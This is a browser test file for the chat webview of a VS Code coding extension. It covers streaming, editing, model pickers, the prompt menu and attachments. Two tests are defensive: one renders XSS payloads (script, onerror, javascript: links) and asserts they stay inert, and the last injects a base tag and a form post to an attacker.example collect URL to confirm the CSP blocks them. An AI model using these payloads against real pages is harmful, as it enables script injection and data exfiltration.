/**
 * The chat webview in a real browser: Debian Chromium runs the esbuild bundle inside a page with
 * the host's CSP, and each test checks what the UI shows and what it posts to the host.
 */
import { describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import type { FromWebview } from '../../src/shared/protocol';
import { chatState, longPath, message } from './fixtures';
import { clearPosted, cspViolations, postToWebview, posted, waitForPosted } from './harness';
import { useWebviewPages } from './pages';

const { open, closeUnchecked } = useWebviewPages();

const twoTurns = [
  message('0', 'user', 'How do I cache `load()`?', { siblings: { index: 1, count: 1 } }),
  message('0.1', 'assistant', 'Use a map:\n\n```ts\nconst cache = new Map<string, number>();\n```\n', {
    siblings: { index: 2, count: 3, prevNodeId: '0.0', nextNodeId: '0.2' },
    model: 'llama3.2',
    usage: { promptTokens: 30, completionTokens: 12, totalTokens: 42 },
    costUsd: 0.0021,
    chips: [{ path: 'src/cache.ts', startLine: 10, endLine: 20, source: 'workspace' }],
  }),
];

function ofType<T extends FromWebview['type']>(type: T): (m: FromWebview) => boolean {
  return (m) => m.type === type;
}

const input = (p: Page) => p.locator('[data-testid=composer-input] textarea');

describe('chat webview', () => {
  it('shows the path with the sibling switcher, meta and total cost, and the switcher posts switch', async () => {
    const p = await open();
    await postToWebview(p, { type: 'state', state: chatState(twoTurns, { totalCostUsd: 0.5, restricted: true, title: 'Cache design' }) });
    const answer = p.locator('[data-testid=message][data-node-id="0.1"]');
    await answer.waitFor();
    expect(await answer.getAttribute('data-role')).toBe('assistant');
    expect(await answer.locator('[data-testid=sibling-label]').textContent()).toBe('2/3');
    expect(await p.locator('[data-testid=message][data-node-id="0"] [data-testid=sibling-label]').count()).toBe(0);
    expect(await answer.locator('[data-testid=message-model]').textContent()).toBe('llama3.2');
    expect(await answer.locator('[data-testid=message-tokens]').textContent()).toBe('42 tokens');
    expect(await answer.locator('[data-testid=message-cost]').textContent()).toBe('$0.0021');
    expect(await p.locator('[data-testid=total-cost]').textContent()).toBe('$0.50');
    // One branch cost all of it: no separate branch cost.
    expect(await p.locator('[data-testid=branch-cost]').isVisible()).toBe(false);
    await postToWebview(p, { type: 'state', state: chatState(twoTurns, { totalCostUsd: 0.5, branchCostUsd: 0.2, restricted: true, title: 'Cache design' }) });
    await expect.poll(() => p.locator('[data-testid=branch-cost]').textContent()).toBe('this branch $0.20 ·');
    expect(await p.locator('[data-testid=total-cost]').textContent()).toBe('$0.50');
    expect(await p.locator('[data-testid=message-list]').getAttribute('aria-live')).toBe('polite');
    expect(await p.locator('[data-testid=title]').textContent()).toBe('Cache design');
    expect(await p.locator('[data-testid=restricted]').isVisible()).toBe(true);
    expect(await answer.locator('[data-testid=sibling-prev]').getAttribute('aria-label')).toBe('Previous version');

    await answer.locator('[data-testid=sibling-prev]').click();
    expect(await waitForPosted(p, ofType('switch'))).toEqual({ type: 'switch', nodeId: '0.0' });
    await clearPosted(p);
    await answer.locator('[data-testid=sibling-next]').click();
    expect(await waitForPosted(p, ofType('switch'))).toEqual({ type: 'switch', nodeId: '0.2' });
  });

  it('streams deltas into a live bubble, batching renders per animation frame', async () => {
    const p = await open();
    await postToWebview(p, { type: 'state', state: chatState(twoTurns.slice(0, 1), { busy: true }) });
    await postToWebview(p, { type: 'streamStart', requestId: 'r1', parentNodeId: '0', model: 'llama3.2' });
    const live = p.locator('[data-testid=message][data-streaming=true]');
    await live.waitFor();
    await p.evaluate(() => {
      const g = globalThis as any;
      for (let i = 0; i < 200; i += 1) {
        g.postMessage({ type: 'streamDelta', requestId: 'r1', delta: `word${i} `, thinkingDelta: i === 0 ? 'planning' : undefined }, '*');
      }
    });
    await p.waitForFunction(() => (globalThis as any).document.querySelector('[data-streaming=true]')?.textContent.includes('word199'));
    const renders = Number(await live.locator('[data-testid=message-content]').getAttribute('data-renders'));
    expect(renders).toBeGreaterThan(0);
    expect(renders).toBeLessThan(200);
    expect(await live.locator('[data-testid=thinking]').isVisible()).toBe(true);
    expect(await live.locator('details[open]').count()).toBe(0);
    // Thinking that arrives in a later frame is added to what is shown, neither lost nor repeated.
    await postToWebview(p, { type: 'streamDelta', requestId: 'r1', delta: '', thinkingDelta: ', then writing' });
    await p.waitForFunction(() => (globalThis as any).document.querySelector('.thinking-content')?.textContent.includes('writing'));
    expect(await live.locator('.thinking-content').textContent()).toBe('planning, then writing');
    expect(await p.locator('[data-testid=stop]').isVisible()).toBe(true);
    await postToWebview(p, { type: 'streamDone', requestId: 'r1' });
    await p.locator('[data-testid=send]').waitFor({ state: 'visible' });
    expect(await p.locator('[data-testid=message-content]').last().textContent()).toContain('word0 word1');
  });

  it('renders script and onerror payloads as inert text, in state and in a stream', async () => {
    const p = await open();
    const payload = 'Look: <img src=x onerror="document.body.dataset.pwned=1"> <script>document.body.dataset.pwned=2</script> [x](javascript:document.body.dataset.pwned=3) ![i](http://127.0.0.1:9/x.png)';
    await postToWebview(p, { type: 'state', state: chatState([message('0', 'user', payload), message('0.0', 'assistant', payload)], { busy: true }) });
    await postToWebview(p, { type: 'streamStart', requestId: 'x1', parentNodeId: '0.0', model: 'm' });
    await postToWebview(p, { type: 'streamDelta', requestId: 'x1', delta: payload });
    await postToWebview(p, { type: 'streamDone', requestId: 'x1' });
    await p.waitForFunction(() => (globalThis as any).document.body.textContent.split('<img src=x onerror=').length >= 3);
    await p.locator('[data-testid=composer-input]').click();
    await p.mouse.move(100, 100);
    await p.waitForTimeout(100);
    const result = await p.evaluate(() => {
      const d = (globalThis as any).document;
      return {
        pwned: d.body.dataset.pwned,
        onerror: d.querySelectorAll('[onerror]').length,
        scripts: d.querySelectorAll('#root script').length,
        images: d.querySelectorAll('#root img').length,
        jsLinks: d.querySelectorAll('a[href^="javascript"]').length,
      };
    });
    expect(result).toEqual({ pwned: undefined, onerror: 0, scripts: 0, images: 0, jsLinks: 0 });
    expect(await p.locator('[data-testid=message-content]').first().textContent()).toContain('<script>document.body.dataset.pwned=2</script>');
  });

  it('Edit posts edit with the new text; Up in an empty box opens the editor on the last user message', async () => {
    const p = await open();
    await postToWebview(p, { type: 'state', state: chatState(twoTurns) });
    const user = p.locator('[data-testid=message][data-node-id="0"]');
    await user.locator('[data-testid=edit]').click();
    const editor = user.locator('[data-testid=edit-input] textarea');
    await editor.fill('How do I memoize `load()`?');
    await editor.press('Enter');
    expect(await waitForPosted(p, ofType('edit'))).toMatchObject({ type: 'edit', nodeId: '0', text: 'How do I memoize `load()`?' });
    expect(await user.locator('[data-testid=inline-editor]').count()).toBe(0);

    await postToWebview(p, { type: 'state', state: chatState(twoTurns) });
    await input(p).click();
    await input(p).press('ArrowUp');
    await user.locator('[data-testid=inline-editor]').waitFor();
    expect(await user.locator('[data-testid=edit-input] textarea').inputValue()).toBe('How do I cache `load()`?');
    await user.locator('[data-testid=edit-input] textarea').press('Escape');
    expect(await user.locator('[data-testid=inline-editor]').count()).toBe(0);
  });

  it('Regenerate posts regenerate, with a model picked from the menu when asked', async () => {
    const p = await open();
    await postToWebview(p, { type: 'models', models: ['llama3.2', 'qwen2.5-coder'], current: 'llama3.2' });
    await postToWebview(p, { type: 'state', state: chatState(twoTurns) });
    const answer = p.locator('[data-testid=message][data-node-id="0.1"]');
    await answer.locator('[data-testid=regenerate]').click();
    const plain = await waitForPosted(p, ofType('regenerate'));
    expect(plain).toMatchObject({ type: 'regenerate', nodeId: '0.1' });
    expect(plain).not.toHaveProperty('model');
    await postToWebview(p, { type: 'streamDone', requestId: (plain as { requestId: string }).requestId });
    await clearPosted(p);
    await answer.locator('[data-testid=regenerate-model]').click();
    await p.locator('[data-testid=model-option][data-model="qwen2.5-coder"]').click();
    expect(await waitForPosted(p, ofType('regenerate'))).toMatchObject({ type: 'regenerate', nodeId: '0.1', model: 'qwen2.5-coder' });
  });

  it('Stop posts stop for the streaming request; an error shows inline with Retry, which posts retry', async () => {
    const p = await open();
    await postToWebview(p, { type: 'state', state: chatState(twoTurns.slice(0, 1), { busy: true }) });
    await postToWebview(p, { type: 'streamStart', requestId: 'r7', parentNodeId: '0', model: 'llama3.2' });
    await postToWebview(p, { type: 'streamDelta', requestId: 'r7', delta: 'Partial' });
    await p.locator('[data-testid=stop]').click();
    expect(await waitForPosted(p, ofType('stop'))).toEqual({ type: 'stop', requestId: 'r7' });

    await postToWebview(p, {
      type: 'streamDone',
      requestId: 'r7',
      error: { message: 'Cannot reach Ollama at http://127.0.0.1:11434: start it with `ollama serve`', kind: 'connection', retryable: true },
    });
    const error = p.locator('[data-testid=error]');
    await error.waitFor();
    expect(await error.textContent()).toContain('start it with ollama serve');
    expect(await p.locator('[data-testid=interrupted-badge]').textContent()).toBe('Error');
    await p.locator('[data-testid=retry]').click();
    expect(await waitForPosted(p, ofType('retry'))).toMatchObject({ type: 'retry' });

    await postToWebview(p, {
      type: 'state',
      state: chatState([twoTurns[0], message('0.0', 'assistant', 'Partial', { interrupted: true, model: 'llama3.2' })]),
    });
    await p.locator('[data-testid=message][data-node-id="0.0"] [data-testid=interrupted-badge]').waitFor();
    expect(await p.locator('[data-testid=interrupted-badge]').textContent()).toBe('Stopped');
    expect(await p.locator('[data-testid=stop]').isVisible()).toBe(false);
  });

  it('Enter sends, Shift+Enter adds a line', async () => {
    const p = await open();
    await postToWebview(p, { type: 'state', state: chatState([]) });
    await input(p).click();
    await p.keyboard.type('first line');
    await p.keyboard.press('Shift+Enter');
    await p.keyboard.type('second line');
    expect(await input(p).inputValue()).toBe('first line\nsecond line');
    expect((await posted(p)).filter((m) => m.type === 'send')).toEqual([]);
    await p.keyboard.press('Enter');
    expect(await waitForPosted(p, ofType('send'))).toMatchObject({ type: 'send', text: 'first line\nsecond line', attachments: [] });
    expect(await input(p).inputValue()).toBe('');
    expect(await p.locator('[data-testid=stop]').isVisible()).toBe(true);
  });

  it('code block Copy and Insert post the code; a context chip posts openFile', async () => {
    const p = await open();
    await postToWebview(p, { type: 'state', state: chatState(twoTurns) });
    const answer = p.locator('[data-testid=message][data-node-id="0.1"]');
    await answer.locator('[data-testid=copy-code]').click();
    expect(await waitForPosted(p, ofType('copy'))).toEqual({ type: 'copy', text: 'const cache = new Map<string, number>();' });
    await answer.locator('[data-testid=insert-code]').click();
    expect(await waitForPosted(p, ofType('insert'))).toEqual({ type: 'insert', text: 'const cache = new Map<string, number>();' });
    expect(await answer.locator('.hljs-keyword').count()).toBeGreaterThan(0);
    const chip = answer.locator('[data-testid=chip]');
    expect(await chip.textContent()).toBe('src/cache.ts:10-20');
    await chip.click();
    expect(await waitForPosted(p, ofType('openFile'))).toEqual({ type: 'openFile', path: 'src/cache.ts', startLine: 10, endLine: 20 });
  });

  it('a context chip of an ignored file the user picked says "ignored"', async () => {
    const p = await open();
    const turns = [
      twoTurns[0],
      { ...twoTurns[1], chips: [{ path: 'dist/out.js', source: 'files', ignored: true }, { path: 'src/cache.ts', source: 'workspace' }] },
    ];
    await postToWebview(p, { type: 'state', state: chatState(turns) });
    const chips = p.locator('[data-testid=message][data-node-id="0.1"] [data-testid=chip]');
    await chips.first().waitFor();
    expect(await chips.first().locator('[data-testid=chip-ignored]').textContent()).toBe('ignored');
    expect(await chips.first().getAttribute('title')).toMatch(/ignored by the workspace's rules/);
    expect(await chips.nth(1).locator('[data-testid=chip-ignored]').count()).toBe(0);
  });

  it('the / menu moves its highlight with the arrow keys, wrapping, and Enter picks the highlighted prompt', async () => {
    const p = await open();
    await postToWebview(p, { type: 'prompts', prompts: [{ name: 'explain', params: [] }, { name: 'review', params: [{ name: 'focus', required: true }] }] });
    await input(p).click();
    await p.keyboard.type('/');
    const options = p.locator('[data-testid=prompt-option]');
    await options.nth(1).waitFor();
    const highlighted = () => options.evaluateAll((rows) => rows.map((row) => row.classList.contains('active') && row.getAttribute('aria-selected') === 'true'));
    // The library's prompts, then Arbor's own /compact.
    expect(await options.allTextContents()).toEqual([expect.stringContaining('/explain'), expect.stringContaining('/review'), expect.stringContaining('/compact')]);
    expect(await highlighted()).toEqual([true, false, false]);
    await p.keyboard.press('ArrowDown');
    expect(await highlighted()).toEqual([false, true, false]);
    await p.keyboard.press('ArrowDown');
    await p.keyboard.press('ArrowDown');
    expect(await highlighted()).toEqual([true, false, false]);
    await p.keyboard.press('ArrowUp');
    expect(await highlighted()).toEqual([false, false, true]);
    await p.keyboard.press('ArrowUp');
    await p.keyboard.press('Enter');
    await p.locator('[data-testid=prompt-form]').waitFor();
    expect(await p.locator('[data-testid=prompt-form-name]').textContent()).toBe('/review');
  });

  it('the / menu shows the prompts that arrive while it is open (a chat just opened)', async () => {
    const p = await open();
    await input(p).click();
    await p.keyboard.type('/');
    await p.locator('[data-testid=prompt-option]').first().waitFor();
    expect(await p.locator('[data-testid=prompt-option]').allTextContents()).toEqual([expect.stringContaining('/compact')]);
    await postToWebview(p, { type: 'prompts', prompts: [{ name: 'explain', params: [] }] });
    await expect.poll(() => p.locator('[data-testid=prompt-option]').count()).toBe(2);
    expect((await p.locator('[data-testid=prompt-option]').allTextContents())[0]).toContain('/explain');
  });

  it('/compact in the / menu is a command: it puts "/compact " in the box for a focus, with no form', async () => {
    const p = await open();
    await postToWebview(p, { type: 'prompts', prompts: [{ name: 'explain', params: [] }] });
    await input(p).click();
    await p.keyboard.type('/comp');
    await p.locator('[data-testid=prompt-option]').first().waitFor();
    expect(await p.locator('[data-testid=prompt-option]').count()).toBe(1);
    await p.keyboard.press('Enter');
    await expect.poll(() => input(p).inputValue()).toBe('/compact ');
    expect(await p.locator('[data-testid=prompt-form]').isVisible()).toBe(false);
    await p.keyboard.type('the parser');
    await p.keyboard.press('Enter');
    expect(await waitForPosted(p, ofType('send'))).toMatchObject({ text: '/compact the parser' });
  });

  it('the / menu picks a prompt whose form sends promptName and params with defaults', async () => {
    const p = await open();
    await postToWebview(p, {
      type: 'prompts',
      prompts: [
        { name: 'explain', description: 'Explain code', params: [{ name: 'level', required: false, default: 'beginner' }] },
        { name: 'review', params: [{ name: 'focus', required: true }] },
      ],
    });
    await input(p).click();
    await p.keyboard.type('/rev');
    const options = p.locator('[data-testid=prompt-option]');
    expect(await options.count()).toBe(1);
    await p.keyboard.press('Enter');
    await p.locator('[data-testid=prompt-form]').waitFor();
    expect(await p.locator('[data-testid=prompt-form-name]').textContent()).toBe('/review');
    await input(p).click();
    await p.keyboard.press('Enter');
    expect((await posted(p)).some((m) => m.type === 'send')).toBe(false);
    await p.locator('[data-testid=prompt-param][data-name=focus]').fill('error handling');
    await p.locator('[data-testid=send]').click();
    expect(await waitForPosted(p, ofType('send'))).toMatchObject({ type: 'send', promptName: 'review', params: { focus: 'error handling' } });
    await postToWebview(p, { type: 'streamDone', requestId: 'none' });
    await postToWebview(p, { type: 'state', state: chatState([]) });

    await clearPosted(p);
    await input(p).click();
    await p.keyboard.type('/');
    await p.locator('[data-testid=prompt-option]').first().click();
    expect(await p.locator('[data-testid=prompt-param][data-name=level]').inputValue()).toBe('beginner');
    await input(p).click();
    await p.keyboard.type('this function');
    await p.keyboard.press('Enter');
    expect(await waitForPosted(p, ofType('send'))).toMatchObject({ text: 'this function', promptName: 'explain', params: { level: 'beginner' } });
  });

  it('#file asks findFiles and attaches the pick; #selection posts attachSelection; attach adds removable chips', async () => {
    const p = await open();
    await input(p).click();
    await p.keyboard.type('see #file');
    const find = (await waitForPosted(p, ofType('findFiles'))) as { requestId: string; query: string };
    expect(find.query).toBe('');
    await postToWebview(p, { type: 'response', requestId: find.requestId, result: ['src/a.ts', 'src/lib/b.ts'] });
    await p.locator('[data-testid=file-option]').nth(1).click();
    const chips = p.locator('[data-testid=attachment]');
    await chips.first().waitFor();
    expect(await chips.textContent()).toBe('src/lib/b.ts');
    expect(await input(p).inputValue()).toBe('see ');

    await input(p).click();
    await p.keyboard.type('#selection');
    await waitForPosted(p, ofType('attachSelection'));
    await postToWebview(p, { type: 'attach', attachments: [{ kind: 'selection', path: 'src/a.ts', startLine: 3, endLine: 9, text: 'x()' }] });
    await p.waitForFunction(() => (globalThis as any).document.querySelectorAll('[data-testid=attachment]').length === 2);
    await chips.first().locator('[data-testid=attachment-remove]').click();
    expect(await chips.count()).toBe(1);
    await input(p).click();
    await p.keyboard.type('what does it do');
    await p.keyboard.press('Enter');
    const send = await waitForPosted(p, ofType('send'));
    expect(send).toMatchObject({ text: 'see what does it do', attachments: [{ kind: 'selection', path: 'src/a.ts', startLine: 3, endLine: 9, text: 'x()' }] });
  });

  it('the model picker posts selectModel; a notice shows as a banner', async () => {
    const p = await open();
    await postToWebview(p, { type: 'models', models: ['llama3.2', 'qwen2.5-coder'], current: 'llama3.2' });
    await p.locator('[data-testid=model-picker]').click();
    await p.locator('[data-testid=model-picker] li[role=option]', { hasText: 'qwen2.5-coder' }).click();
    expect(await waitForPosted(p, ofType('selectModel'))).toEqual({ type: 'selectModel', model: 'qwen2.5-coder' });
    await postToWebview(p, { type: 'notice', level: 'error', message: 'Cannot reach Ollama at http://127.0.0.1:11434: start it with `ollama serve`' });
    const notice = p.locator('[data-testid=notice]');
    await notice.waitFor();
    expect(await notice.locator('code').textContent()).toBe('ollama serve');
    await notice.locator('[data-testid=notice-dismiss]').click();
    expect(await notice.count()).toBe(0);
  });

  it("lists VS Code's models in their own group of both pickers, with vendor and family, and posts their vscode: ids", async () => {
    const p = await open();
    const vscodeModels = [
      { id: 'vscode:copilot/gpt-4o', name: 'GPT-4o', description: 'copilot · gpt-4o' },
      { id: 'vscode:arbor-e2e/echo', name: 'Echo', description: 'arbor-e2e · echo' },
    ];
    await postToWebview(p, { type: 'models', models: ['llama3.2'], current: 'vscode:copilot/gpt-4o', vscodeModels });
    await postToWebview(p, { type: 'state', state: chatState(twoTurns) });
    // The composer's picker: the provider's model, then a disabled "VS Code" heading and the group.
    await p.locator('[data-testid=model-picker]').click();
    const options = p.locator('[data-testid=model-picker] li[role=option]');
    await expect.poll(async () => (await options.allTextContents()).map((t) => t.trim())).toEqual(['llama3.2', 'VS Code', 'GPT-4o', 'Echo']);
    await options.filter({ hasText: 'Echo' }).click();
    expect(await waitForPosted(p, ofType('selectModel'))).toEqual({ type: 'selectModel', model: 'vscode:arbor-e2e/echo' });
    await clearPosted(p);
    // The Regenerate menu: the same group, labelled, with vendor and family beside each name.
    const answer = p.locator('[data-testid=message][data-node-id="0.1"]');
    await answer.locator('[data-testid=regenerate-model]').click();
    const group = p.locator('[data-testid=model-menu] [data-testid=model-group]');
    expect(await group.getAttribute('aria-label')).toBe('VS Code');
    expect(await group.locator('[data-testid=model-option]').count()).toBe(2);
    expect(await group.locator('[data-testid=model-option][data-model="vscode:copilot/gpt-4o"] .popup-detail').textContent()).toBe('copilot · gpt-4o');
    await group.locator('[data-testid=model-option][data-model="vscode:copilot/gpt-4o"]').click();
    expect(await waitForPosted(p, ofType('regenerate'))).toMatchObject({ type: 'regenerate', nodeId: '0.1', model: 'vscode:copilot/gpt-4o' });
  });

  it('a streamed answer, rendered block by block, ends the same as the whole text rendered at once', async () => {
    const p = await open();
    const text = 'Intro with `code`.\n\n1. first\n\n   continued item\n2. second\n\n```ts\nconst a = 1;\n\nconst b = 2;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nDone.';
    await postToWebview(p, { type: 'state', state: chatState([message('0', 'user', 'q')], { busy: true }) });
    await postToWebview(p, { type: 'streamStart', requestId: 's1', parentNodeId: '0', model: 'm' });
    for (let i = 0; i < text.length; i += 7) {
      await postToWebview(p, { type: 'streamDelta', requestId: 's1', delta: text.slice(i, i + 7) });
      if (i % 28 === 0) {
        await p.evaluate(() => new Promise((resolve) => (globalThis as any).requestAnimationFrame(resolve)));
      }
    }
    await postToWebview(p, { type: 'streamDone', requestId: 's1' });
    const shape = (selector: string) =>
      p.evaluate((sel) => {
        const el = (globalThis as any).document.querySelector(sel);
        return {
          text: el.textContent.replace(/\s+/g, ' ').trim(),
          tags: [...el.querySelectorAll('ol, li, pre, table, code, p')].map((n: any) => n.tagName).join(','),
        };
      }, selector);
    await p.waitForFunction(() => (globalThis as any).document.querySelector('[data-request-id=s1]')?.textContent.includes('Done.'));
    const streamed = await shape('[data-request-id=s1] [data-testid=message-content]');
    await postToWebview(p, { type: 'state', state: chatState([message('0', 'user', 'q'), message('0.0', 'assistant', text)]) });
    await p.locator('[data-testid=message][data-node-id="0.0"]').waitFor();
    const whole = await shape('[data-node-id="0.0"] [data-testid=message-content]');
    expect(streamed.text).toBe(whole.text);
    expect(streamed.tags.split(',').sort()).toEqual(whole.tags.split(',').sort());
  });

  it('a long path renders the newest messages at once and the older ones when seen or idle', async () => {
    const p = await open();
    const path = longPath(120);
    const first = await p.evaluate((data) => {
      const g = globalThis as any;
      g.dispatchEvent(new g.MessageEvent('message', { data }));
      const contents = g.document.querySelectorAll('[data-testid=message-content]');
      return { count: contents.length, firstPending: contents[0].classList.contains('pending'), lastPending: contents[contents.length - 1].classList.contains('pending') };
    }, { type: 'state', state: chatState(path) });
    expect(first).toEqual({ count: 120, firstPending: true, lastPending: false });
    expect(await p.locator('[data-testid=message-content]').first().textContent()).toContain('Question 0');
    await p.waitForFunction(() => (globalThis as any).document.querySelectorAll('[data-pending]').length === 0);
    expect(await p.locator('[data-testid=message]').count()).toBe(120);
    expect(await p.locator('[data-testid=message]').nth(1).locator('[data-testid=code-block]').count()).toBe(1);
  });

  it('shows a sent message at once, keeps a failed answer with Retry until an answer replaces it, and reports refusals', async () => {
    const p = await open();
    await postToWebview(p, { type: 'state', state: chatState([]) });
    await input(p).click();
    await p.keyboard.type('Why is `x` undefined?');
    await p.keyboard.press('Enter');
    const send = (await waitForPosted(p, ofType('send'))) as { requestId: string };
    const outgoing = p.locator('[data-testid=message][data-outgoing=true]');
    await outgoing.waitFor();
    expect(await outgoing.getAttribute('data-role')).toBe('user');
    expect(await outgoing.locator('code').textContent()).toBe('x');

    // The host streams before it posts the state that holds the new user message.
    await postToWebview(p, { type: 'streamStart', requestId: send.requestId, parentNodeId: '0', model: 'llama3.2' });
    await postToWebview(p, { type: 'streamDone', requestId: send.requestId, error: { message: 'The model server closed the stream', kind: 'network', retryable: true } });
    await postToWebview(p, { type: 'state', state: chatState([message('0', 'user', 'Why is `x` undefined?')]) });
    await p.locator('[data-testid=message][data-node-id="0"]').waitFor();
    expect(await outgoing.count()).toBe(0);
    expect(await p.locator('[data-testid=error]').textContent()).toContain('closed the stream');
    expect(await p.locator('[data-testid=message]').count()).toBe(2);

    // A request the host refuses without streaming: the reason shows as a notice.
    await input(p).click();
    await p.keyboard.type('again');
    await p.keyboard.press('Enter');
    const second = (await waitForPosted(p, (m) => m.type === 'send' && m.requestId !== send.requestId)) as { requestId: string };
    await postToWebview(p, { type: 'streamDone', requestId: second.requestId, error: { message: 'An answer is still streaming: stop it or wait for it first.', kind: 'busy', retryable: true } });
    await p.locator('[data-testid=notice]').waitFor();
    expect(await p.locator('[data-testid=notice]').textContent()).toContain('still streaming');
    expect(await outgoing.count()).toBe(0);
    expect(await p.locator('[data-testid=send]').isVisible()).toBe(true);
    // The refused message was never stored: its text is back in the box, not lost.
    expect(await input(p).inputValue()).toBe('again');
  });

  it('keeps the draft and the conversation id across a reload', async () => {
    const p = await open();
    await postToWebview(p, { type: 'state', state: chatState(twoTurns, { conversationId: 'conv-42' }) });
    await input(p).click();
    await p.keyboard.type('half-written thought');
    await p.reload();
    await waitForPosted(p, ofType('ready'));
    expect(await input(p).inputValue()).toBe('half-written thought');
    const saved = await p.evaluate(() => JSON.parse((globalThis as any).sessionStorage.getItem('arbor-webview-state')));
    expect(saved).toMatchObject({ conversationId: 'conv-42', draft: 'half-written thought' });
  });

  it('holds a window of a long path: applies only what changed, and loads earlier messages from the top row', async () => {
    const p = await open();
    const path = longPath(300);
    const tail = path.slice(250);
    const base = { conversationId: 'conv-long', pathLength: 300 };
    await postToWebview(p, { type: 'state', state: chatState(tail, { ...base, windowStart: 250 }) });
    await p.locator(`[data-testid=message][data-node-id="${path[299].nodeId}"]`).waitFor();
    expect(await p.locator('[data-testid=message]').count()).toBe(50);
    const row = p.locator('[data-testid=load-earlier-button]');
    expect(await row.textContent()).toBe('Show 250 earlier messages');

    // A new message: the host keeps the 50 ids and sends one id and one view.
    const added = message('new-1', 'user', 'One more question');
    await postToWebview(p, { type: 'state', state: chatState([...tail, added], { ...base, pathLength: 301, windowStart: 250, keep: 50, ids: ['new-1'], views: [added] }) });
    await p.locator('[data-testid=message][data-node-id="new-1"]').waitFor();
    expect(await p.locator('[data-testid=message]').count()).toBe(51);
    expect(await p.locator(`[data-testid=message][data-node-id="${path[250].nodeId}"]`).count()).toBe(1);

    // A branch switch at the 260th message: ten ids kept, the rest replaced.
    const other = [message('b-1', 'assistant', 'Another answer'), message('b-2', 'user', 'And then?')];
    await postToWebview(p, { type: 'state', state: chatState([...path.slice(250, 260), ...other], { ...base, pathLength: 262, windowStart: 250, keep: 10, ids: ['b-1', 'b-2'], views: other }) });
    await p.locator('[data-testid=message][data-node-id="b-2"]').waitFor();
    expect(await p.locator('[data-testid=message]').count()).toBe(12);
    expect(await p.locator('[data-testid=message][data-node-id="new-1"]').count()).toBe(0);

    // The row asks for older messages; the host answers with the wider window and only the new views.
    await row.click();
    await waitForPosted(p, ofType('loadEarlier'));
    const older = path.slice(200, 250);
    const window = [...older, ...path.slice(250, 260), ...other];
    await postToWebview(p, { type: 'state', state: chatState(window, { ...base, pathLength: 262, windowStart: 200, keep: 0, ids: window.map((m) => m.nodeId), views: older }) });
    await p.locator(`[data-testid=message][data-node-id="${path[200].nodeId}"]`).waitFor();
    expect(await p.locator('[data-testid=message]').count()).toBe(62);
    expect(await row.textContent()).toBe('Show 200 earlier messages');
    const order = await p.locator('[data-testid=message]').evaluateAll((els) => els.map((el) => el.getAttribute('data-node-id')));
    expect(order).toEqual(window.map((m) => m.nodeId));

    // The whole path held: the row hides.
    await postToWebview(p, { type: 'state', state: chatState(window, { ...base, pathLength: 62, windowStart: 0, keep: 62, ids: [], views: [] }) });
    await expect.poll(() => p.locator('[data-testid=load-earlier]').isVisible()).toBe(false);
  });

  it('closes base-uri and form-action under the CSP: an injected <base> or form post is refused by the browser', async () => {
    const p = await open();
    await postToWebview(p, { type: 'state', state: chatState(twoTurns) });
    const before = await p.evaluate(() => (globalThis as any).document.baseURI);
    await p.evaluate(() => {
      const doc = (globalThis as any).document;
      const base = doc.createElement('base');
      base.href = 'https://attacker.example/';
      doc.head.prepend(base);
      const form = doc.createElement('form');
      form.action = 'https://attacker.example/collect';
      form.method = 'post';
      doc.body.append(form);
      form.submit();
    });
    await expect.poll(async () => ((await cspViolations(p)) as Array<{ directive: string }>).map((v) => v.directive).sort(), { timeout: 5000 }).toEqual(['base-uri', 'form-action']);
    expect(await p.evaluate(() => (globalThis as any).document.baseURI)).toBe(before);
    // The violations were the point of this test: close the page here so the shared check does not count them.
    await closeUnchecked();
  });
});
